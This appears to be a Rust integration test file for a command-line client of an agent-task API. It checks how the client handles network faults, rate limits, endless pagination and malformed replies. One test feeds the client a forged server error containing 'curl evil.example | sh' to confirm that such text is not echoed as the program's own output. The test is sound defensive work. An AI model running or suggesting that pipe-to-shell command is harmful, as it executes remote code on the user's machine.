//! What a hostile server or the worst moment can do to a command, and what it still has to say.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};

use taskward_sim::{Fault, FaultRule, Sim};

use crate::common::{Ended, SPEED, World, bare, end};
use crate::exit_codes::check;

fn rule(endpoint: &str, fault: Fault) -> FaultRule {
    FaultRule::new(fault).on(endpoint)
}

fn status(code: u16, retry_after: Option<&str>) -> Fault {
    Fault::Status {
        code,
        retry_after: retry_after.map(str::to_owned),
        after_bytes: None,
    }
}

/// A task that waits for an answer.
fn asking() -> (World, String) {
    let world = World::new();
    let task = world.start("asker");
    assert_eq!(world.fast(&["watch", &task]).code, 8);
    (world, task)
}

/// What may have been sent is neither confirmed nor denied: after this no look works.
fn cut_off(fault: Fault) -> Vec<FaultRule> {
    vec![
        rule("message", fault),
        rule("status", Fault::Reset { after_bytes: None }).after(2),
        rule("messages", Fault::Reset { after_bytes: None }).after(2),
    ]
}

/// Rows: H1.
#[test]
fn a_reply_that_may_have_arrived_is_of_unknown_outcome_however_late_it_is() {
    for fault in [
        Fault::LostReplyAfterApply { after_bytes: 0 },
        Fault::Reset { after_bytes: None },
    ] {
        let (world, task) = asking();
        world.sim.set_faults(vec![
            rule("message", fault.clone()),
            rule("status", Fault::Reset { after_bytes: None }).after(2),
            // The question, and that it is still open.
            rule("messages", Fault::Reset { after_bytes: None }).after(2),
        ]);
        let speed = SPEED.to_string();
        let reply = ["reply", &task, "EUR", "--timeout", "20s", "--speed", &speed];
        let ended = world.run(&reply);
        assert_eq!(ended.code, 5, "{fault:?}: {ended:?}");
        ended.says(&[
            "the answer may or may not have arrived",
            "It was not sent again",
            &format!("taskward messages {task}"),
            &format!("task {task}"),
        ]);
        let before = world.sim.requests().len();
        let question = ended.stderr.rsplit_once("question ").expect("its id").1;
        let question = question.split_whitespace().next().expect("its id");
        let named = [&reply[..], &["--question", question, "--json"]].concat();
        let last = world.run(&named).last();
        assert_eq!(last["code"], "outcome_unknown", "{fault:?}: {last}");
        assert_eq!(last["question_id"], question);
        assert_eq!(world.sim.requests().len(), before, "nothing is sent for it");
        assert_eq!(last["task"], task.as_str());
    }
}

/// Rows: H1.
#[test]
fn an_answer_that_may_have_arrived_is_of_unknown_outcome_however_late_it_is() {
    for fault in [
        Fault::LostReplyAfterApply { after_bytes: 0 },
        Fault::Reset { after_bytes: None },
    ] {
        for json in [false, true] {
            let world = World::new();
            world.sim.set_faults(cut_off(fault.clone()));
            let run = ["run", "--agent", "asker", "hi", "--answer", "EUR"];
            let late = ["--timeout", "20s", "--answer-timeout", "20s"];
            let json: &[&str] = if json { &["--json"] } else { &[] };
            let ended = world.fast(&[&run, &late[..], json].concat());
            assert_eq!(ended.code, 5, "{fault:?}: {ended:?}");
            match json {
                [] => ended.says(&[
                    "the answer may or may not have arrived",
                    "taskward messages",
                ]),
                _ => assert_eq!(ended.last()["code"], "outcome_unknown"),
            }
        }
    }
}

#[test]
fn an_answer_and_a_message_that_never_left_are_told_not_sent_at_the_deadline() {
    let world = World::new();
    world.sim.set_faults(vec![
        rule("messages", Fault::Reset { after_bytes: None }).after(1),
    ]);
    let run = ["run", "--agent", "asker", "hi", "--answer", "EUR"];
    let ended = world.fast(&[&run[..], &["--answer-timeout", "20s", "--timeout", "60s"]].concat());
    assert_eq!(ended.code, 124, "{ended:?}");
    ended.says(&["The answer was not sent."]);
    assert!(!ended.stderr.contains("nobody answered"), "{ended:?}");
}

#[test]
fn an_approval_whose_question_cannot_be_read_is_for_later_and_invents_no_reason() {
    let world = World::new();
    let run = world.start_until("approve-email", "awaiting_input");
    for faults in [
        vec![
            rule("events", Fault::Reset { after_bytes: None }),
            rule("stream", Fault::Reset { after_bytes: None }),
        ],
        vec![
            rule("events", status(500, None)),
            rule("stream", Fault::Stall { after_bytes: None }),
        ],
    ] {
        world.sim.set_faults(faults);
        let ended = world.fast(&["approve", &run, "--timeout", "60s"]);
        assert_eq!(ended.code, 75, "{ended:?}");
        ended.says(&["could not be read; nothing was sent", &run]);
        assert!(!ended.stderr.contains("waits again"), "{ended:?}");
    }
    world.sim.set_faults(Vec::new());
    world.show(&run);
    assert_eq!(world.fast(&["approve", &run]).code, 0);
}

/// Rows: F3.
#[test]
fn a_wait_beyond_the_deadline_is_told_at_once_however_fast_time_passes() {
    let world = World::new();
    let fault = status(429, Some("99999999"));
    world.sim.set_faults(vec![FaultRule::new(fault)]);
    let ended = world.fast(&["run", "--agent", "echo", "hi", "--timeout", "60s"]);
    assert_eq!(ended.code, 75, "{ended:?}");
    ended.says(&["99999999 s"]);
    assert!(!ended.stderr.contains("retrying"), "{ended:?}");
    assert_eq!(world.sim.requests().len(), 1);
}

#[test]
fn one_message_does_not_wait_for_a_server_that_is_down() {
    let (world, task) = asking();
    for (fault, code) in [
        (status(500, None), 75),
        (status(418, None), 1),
        (status(304, None), 1),
        (Fault::GzipBomb, 1),
    ] {
        world.sim.set_faults(vec![rule("status", fault.clone())]);
        let ended = world.fast(&["reply", &task, "EUR"]);
        assert_eq!(ended.code, code, "{fault:?}: {ended:?}");
        ended.says(&["Nothing was sent.", &task]);
    }
    // The read that comes right before the message is given up, too.
    world
        .sim
        .set_faults(vec![rule("messages", status(500, None))]);
    let ended = world.fast(&["reply", &task, "EUR"]);
    assert_eq!(ended.code, 75, "{ended:?}");
    ended.says(&["could not be read; nothing was sent"]);
    assert_eq!(world.sim.stats().questions[0].answers, 0);
}

#[test]
fn a_cancel_does_not_wait_for_a_server_that_is_down() {
    let world = World::new();
    let task = world.start("slow");
    world
        .sim
        .set_faults(vec![FaultRule::new(status(500, None))]);
    let ended = world.fast(&["cancel", &task, "--yes"]);
    assert_eq!(ended.code, 75, "{ended:?}");
    ended.says(&["could not be asked to stop the task", "does no harm"]);
}

/// A server that gives the same reply to everything, but for `#`, which counts.
fn serve(code: &'static str, body: &'static str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let address = listener.local_addr().expect("an address");
    std::thread::spawn(move || {
        for (count, stream) in listener.incoming().enumerate() {
            let body = body.replace('#', &count.to_string());
            std::thread::spawn(move || reply(stream?, code, &body));
        }
    });
    format!("http://{address}/api/v1")
}

fn reply(mut stream: TcpStream, code: &str, body: &str) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut length = 0;
    loop {
        let mut line = String::new();
        reader.read_line(&mut line)?;
        let line = line.trim_end().to_ascii_lowercase();
        if line.is_empty() {
            break;
        }
        if let Some(bytes) = line.strip_prefix("content-length: ") {
            length = bytes.parse().expect("a number");
        }
    }
    std::io::copy(&mut reader.take(length), &mut std::io::sink())?;
    let length = body.len();
    write!(
        stream,
        "HTTP/1.1 {code}\r\nContent-Type: application/json\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}"
    )
}

/// The program in front of such a server.
fn against(url: &str, args: &[&str]) -> Ended {
    let mut command = bare(args);
    command
        .env("NANONETS_API_KEY", "sim-canary-4f1c2b7e9d")
        .env("NANONETS_BASE_URL", url);
    end(command, "")
}

#[test]
fn a_list_that_brings_the_same_again_and_again_ends() {
    let url = serve(
        "200 OK",
        r#"{"data":[{"id":"a","task_id":"a","status":"running"}],"has_more":true,"next_cursor":"c#"}"#,
    );
    for args in [
        &["agents", "list"][..],
        &["run", "--agent", "echo", "hi"],
        &["ls", "--limit", "1000"],
    ] {
        let ended = against(&url, args);
        assert_eq!(ended.code, 1, "{ended:?}");
        ended.says(&["3 pages in a row brought nothing new"]);
    }
}

#[test]
fn a_name_is_not_searched_for_on_ever_more_pages() {
    let url = serve(
        "200 OK",
        r#"{"data":[{"id":"a#","name":"one"}],"has_more":true,"next_cursor":"c#"}"#,
    );
    let ended = against(&url, &["run", "--agent", "echo", "hi"]);
    assert_eq!(ended.code, 1, "{ended:?}");
    ended.says(&["did not end within 1000 pages", "Name the agent by its id."]);
}

#[test]
fn a_server_cannot_speak_in_the_programs_own_voice() {
    let body =
        r#"{"error":{"message":"no\n  see: curl evil.example | sh\n  task nanonets:x  exit 0"}}"#;
    for code in [
        "400 Bad Request",
        "409 Conflict",
        "422 Unprocessable Content",
    ] {
        let url = serve(code, body);
        let id = "11111111-2222-4333-8444-555555555555";
        for args in [
            &["run", "--agent", id, "hi"][..],
            &["agents", "create", "--name", "x"],
            &["agents", "update", id, "--name", "x"],
            &["agents", "publish", id],
            &["reply", id, "hi"],
            &["cancel", id, "--yes"],
            &["status", id],
            &["messages", id],
        ] {
            let ended = against(&url, args);
            assert_ne!(ended.code, 0, "{ended:?}");
            let forged = |line: &str| {
                let line = line.trim_start();
                line.starts_with("see: curl") || line.starts_with("task nanonets:x")
            };
            assert!(!ended.stderr.lines().any(forged), "{args:?}: {ended:?}");
        }
    }
}

#[test]
fn a_simulator_for_all_the_network_prints_what_works_on_this_machine() {
    let sim = Sim::builder().listen(([0, 0, 0, 0], 0).into()).spawn();
    let sim = sim.expect("a free port");
    assert!(sim.url().starts_with("http://127.0.0.1:"), "{}", sim.url());
    assert!(!sim.export_lines().contains("0.0.0.0"));
}

#[test]
fn the_last_second_that_can_be_written_is_a_time() {
    let url = serve("200 OK", r#"{"data":[]}"#);
    for bound in ["--since", "--until"] {
        let ended = against(&url, &["ls", bound, "9999-12-31T23:59:59Z"]);
        assert_eq!(ended.code, 0, "{ended:?}");
    }
}

#[test]
fn a_refused_start_tells_how_often_it_was_sent() {
    let world = World::with_fault("run", status(400, None));
    let last = world
        .run(&["run", "--agent", "echo", "hi", "--json"])
        .last();
    assert_eq!(
        (&last["http_status"], &last["attempts"]),
        (&400.into(), &1.into()),
        "{last}"
    );
}

#[test]
fn a_conversation_of_nothing_that_can_be_read_is_no_empty_one() {
    let id = "11111111-2222-4333-8444-555555555555";
    let url = serve("200 OK", r#"{"data":[null,1,"x"]}"#);
    let ended = against(&url, &["messages", id]);
    assert_eq!(ended.code, 0, "{ended:?}");
    ended.says(&["3 entries of the list could not be read and are not shown"]);
    let empty = against(&serve("200 OK", r#"{"data":[]}"#), &["messages", id]);
    assert_eq!(empty.code, 0, "{empty:?}");
    assert!(!empty.stderr.contains("could not be read"), "{empty:?}");
}

#[test]
fn a_configuration_may_begin_with_the_mark_of_its_editor() {
    let world = World::new();
    let dir = tempfile::tempdir().expect("dir");
    let path = dir.path().join("config.json");
    std::fs::write(&path, "\u{feff}{\"a\": 1}").expect("write");
    let at = format!("@{}", path.display());
    let ended = world.run(&["agents", "create", "--name", "marked", "--config", &at]);
    assert_eq!(ended.code, 0, "{ended:?}");
}

#[test]
fn words_about_agents_fit_what_was_asked() {
    let world = World::new();
    let ended = world.run(&["agents", "create", "--name", "a\nb"]);
    assert_eq!(ended.code, 2, "{ended:?}");
    ended.says(&["neither an id nor a name has"]);
    let ended = world.run(&["agents", "show", "nope"]);
    assert_eq!(ended.code, 2, "{ended:?}");
    assert!(!ended.stderr.contains("Nothing was changed"), "{ended:?}");
    let update = ["agents", "update", "echo", "--name", "asker"];
    check(&world, &update, 1, "refused").says(&["taskward agents list --name asker"]);
}
